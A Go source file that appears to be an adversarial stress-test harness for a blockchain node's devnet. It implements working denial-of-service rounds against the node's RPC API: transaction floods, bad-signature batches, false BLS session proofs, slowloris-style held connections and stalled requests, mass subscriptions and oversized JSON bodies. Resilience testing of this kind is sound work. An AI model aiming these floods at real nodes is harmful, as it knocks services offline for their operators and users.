package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/remora-network/remora"
	"github.com/remora-network/remora/crypto/bls"
	"github.com/remora-network/remora/crypto/ed25519"
	"github.com/remora-network/remora/node/client"
	"github.com/remora-network/remora/node/devnet"
	"github.com/remora-network/remora/node/home"
)

// abuser is a client of the API with an account.
type abuser struct {
	order   *Order
	genesis *remora.Genesis
	key     *ed25519.PrivateKey
	poor    *ed25519.PrivateKey
	nonce   uint64 // of the account
	http    *http.Client
}

// abuse is one round of an attack against one target; it is repeated until the attack ends.
type abuse func(ctx context.Context, a *abuser, t Target) error

// pauseBetween is the time between two rounds of an attack at a target.
const pauseBetween = 20 * time.Millisecond

func clientStages() map[string]stage {
	all := map[string]stage{}
	for name, do := range map[string]abuse{
		"client-dup":         sendCopies,
		"client-nonce-flood": sendOneNonce,
		"client-poor":        sendFromPoor,
		"client-door":        sendFalseSessions,
		"client-badsigs":     sendBadSignatures,
		"client-bodies":      holdBodies,
		"client-stall":       stallRequests,
		"client-nonces":      takeNonces,
		"client-subscribe":   subscribe,
		"client-json":        sendDeepJSON,
	} {
		all[name] = stage{do.prepare}
	}
	return all
}

func (do abuse) prepare(ctx context.Context, o *Order) (func(context.Context) error, error) {
	a := &abuser{order: o, http: newHTTP(1024)}
	var err error
	if a.genesis, err = home.ReadGenesis(o.Genesis); err != nil {
		return nil, err
	}
	if a.key, err = home.OpenAccount(o.Account); err != nil {
		return nil, err
	}
	if a.poor, err = home.OpenAccount(o.Poor); err != nil {
		return nil, err
	}
	node, err := client.New(o.Targets[0].RPC)
	if err != nil {
		return nil, err
	}
	account, err := node.Account(ctx, a.key.Public())
	if err != nil {
		return nil, err
	}
	a.nonce = account.Nonce
	return func(ctx context.Context) error {
		var group sync.WaitGroup
		var mu sync.Mutex
		tally := map[string]int{} // of rounds, by how they ended
		for _, t := range o.Targets {
			group.Go(func() {
				for ctx.Err() == nil {
					err := do(ctx, a, t)
					mu.Lock()
					tally[fmt.Sprintf("%.120v", err)]++
					mu.Unlock()
					devnet.Pause(ctx, pauseBetween)
				}
			})
		}
		group.Wait()
		for message, times := range tally {
			fmt.Fprintf(os.Stderr, "%s: %d times: %s\n", o.Kind, times, message)
		}
		return nil
	}, nil
}

// post sends a body and reads the answer.
func (a *abuser) post(ctx context.Context, t Target, path, media string, body io.Reader) error {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, t.RPC+path, body)
	if err != nil {
		return err
	}
	if media != "" {
		r.Header.Set("Content-Type", media)
	}
	answer, err := a.http.Do(r)
	if err != nil {
		return err
	}
	defer answer.Body.Close()
	text, err := io.ReadAll(answer.Body)
	if err == nil && answer.StatusCode != http.StatusOK {
		err = fmt.Errorf("answer %d: %.80s", answer.StatusCode, text)
	}
	return err
}

// submit sends framed transactions in one request.
func (a *abuser) submit(ctx context.Context, t Target, txs [][]byte) error {
	var body []byte
	for _, tx := range txs {
		body = append(binary.BigEndian.AppendUint32(body, uint32(len(tx))), tx...)
	}
	return a.post(ctx, t, "/v1/txs", "application/octet-stream", bytes.NewReader(body))
}

func copies(tx []byte, n int) [][]byte {
	txs := make([][]byte, n)
	for i := range txs {
		txs[i] = tx
	}
	return txs
}

// sendCopies sends one transfer 16,000 times.
func sendCopies(ctx context.Context, a *abuser, t Target) error {
	return a.submit(ctx, t, copies(transfer(a.key, a.genesis, a.key.Public(), a.nonce), 16_000))
}

// sendOneNonce sends 12,000 transfers that differ and have one nonce.
func sendOneNonce(ctx context.Context, a *abuser, t Target) error {
	txs := make([][]byte, 12_000)
	for i := range txs {
		var to remora.Address
		binary.BigEndian.PutUint64(to[:], uint64(i))
		txs[i] = transfer(a.key, a.genesis, to, a.nonce)
	}
	return a.submit(ctx, t, txs)
}

// sendFromPoor sends transfers of 64 nonces of an account that can pay for one.
func sendFromPoor(ctx context.Context, a *abuser, t Target) error {
	txs := make([][]byte, 64)
	for i := range txs {
		txs[i] = transfer(a.poor, a.genesis, a.key.Public(), uint64(i))
	}
	return a.submit(ctx, t, txs)
}

// sendFalseSessions sends four times, at once, 2,000 openings of sessions whose proof of possession is of another key.
func sendFalseSessions(ctx context.Context, a *abuser, t Target) error {
	txs := make([][]byte, 2000)
	key, err := bls.DeriveKey(a.order.seed())
	if err != nil {
		return err
	}
	other, err := bls.DeriveKey(append(a.order.seed(), 1))
	if err != nil {
		return err
	}
	var cache remora.Address
	if err := cache.UnmarshalText([]byte(a.order.Cache)); err != nil {
		return err
	}
	for i := range txs {
		txs[i] = openSession(a.key, a.genesis, remora.OpenSession{
			Number: uint64(i), Key: key.Public(), Possession: other.ProvePossession(), Allotments: []remora.Allotment{{Node: cache, Bytes: 1}},
		})
	}
	return atOnce(4, func(int) error { return a.submit(ctx, t, txs) })
}

// seed returns what keys of the attack are derived from.
func (o *Order) seed() []byte {
	h := remora.SumBLAKE3([]byte(o.Account))
	return h[:]
}

// sendBadSignatures sends 16 times 16,384 transfers whose signatures are wrong, at once.
func sendBadSignatures(ctx context.Context, a *abuser, t Target) error {
	good := transfer(a.key, a.genesis, a.key.Public(), a.nonce)
	return atOnce(16, func(n int) error {
		txs := make([][]byte, client.MaxSubmitTxs)
		for i := range txs {
			txs[i] = spoilSignature(good, uint64(n)<<32|uint64(i))
		}
		return a.submit(ctx, t, txs)
	})
}

// atOnce runs n calls side by side and returns an error of one that failed.
func atOnce(n int, call func(i int) error) error {
	failed := make(chan error, n)
	for i := range n {
		go func() { failed <- call(i) }()
	}
	var first error
	for range n {
		if err := <-failed; err != nil {
			first = err
		}
	}
	return first
}

// holdConnections opens connections, writes to each the same bytes and holds them until the attack ends. The server may end
// them earlier; then new ones are opened.
func (a *abuser) holdConnections(ctx context.Context, t Target, n int, write func(c net.Conn) error) error {
	u, err := url.Parse(t.RPC)
	if err != nil {
		return err
	}
	return atOnce(n, func(int) error {
		c, err := dialFrom(clientHost).DialContext(ctx, "tcp", u.Host)
		if err != nil {
			return err
		}
		stop := context.AfterFunc(ctx, func() { _ = c.Close() })
		defer stop()
		defer c.Close()
		if err := write(c); err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, c)
		return err
	})
}

// holdBodies sends 600 bodies of 4 MiB and keeps their last byte.
func holdBodies(ctx context.Context, a *abuser, t Target) error {
	part := make([]byte, 64<<10)
	return a.holdConnections(ctx, t, 600, func(c net.Conn) error {
		const size = client.MaxSubmitBytes
		if _, err := fmt.Fprintf(c, "POST /v1/txs HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", size); err != nil {
			return err
		}
		for left := size - 1; left > 0; left -= len(part) {
			if _, err := c.Write(part[:min(left, len(part))]); err != nil {
				return err
			}
		}
		return nil
	})
}

// stallRequests begins 2,060 requests and sends no body.
func stallRequests(ctx context.Context, a *abuser, t Target) error {
	return a.holdConnections(ctx, t, 2060, func(c net.Conn) error {
		_, err := fmt.Fprintf(c, "POST /v1/txs HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\nContent-Length: 1000\r\n\r\n")
		return err
	})
}

// takeNonces asks 320 times for a nonce of somebody else's account.
func takeNonces(ctx context.Context, a *abuser, t Target) error {
	return atOnce(16, func(int) error {
		var failed error
		for range 20 {
			if err := a.post(ctx, t, "/v1/accounts/"+a.order.Victim+"/nonce", "", nil); err != nil {
				failed = err
			}
		}
		return failed
	})
}

// subscribe opens 64 streams of events and 1,024 questions that wait.
func subscribe(ctx context.Context, a *abuser, t Target) error {
	never := strings.Repeat("ab", remora.HashSize)
	return a.holdPaths(ctx, t, append(
		repeatString("/v1/events", 64), repeatString("/v1/txs/"+never+"?wait=30000", 1024)...))
}

func repeatString(s string, n int) []string {
	all := make([]string, n)
	for i := range all {
		all[i] = s
	}
	return all
}

func (a *abuser) holdPaths(ctx context.Context, t Target, paths []string) error {
	return atOnce(len(paths), func(i int) error {
		r, err := http.NewRequestWithContext(ctx, http.MethodGet, t.RPC+paths[i], nil)
		if err != nil {
			return err
		}
		answer, err := a.http.Do(r)
		if err != nil {
			return err
		}
		defer answer.Body.Close()
		if answer.StatusCode != http.StatusOK {
			return fmt.Errorf("%s: answer %d", paths[i][:8], answer.StatusCode)
		}
		_, err = io.Copy(io.Discard, answer.Body)
		return err
	})
}

// sendDeepJSON sends 4 MiB of JSON that means nothing.
func sendDeepJSON(ctx context.Context, a *abuser, t Target) error {
	body := "[" + strings.Repeat("1,", client.MaxSubmitBytes/2-2) + "1]"
	return a.post(ctx, t, "/", "application/json", strings.NewReader(body))
}
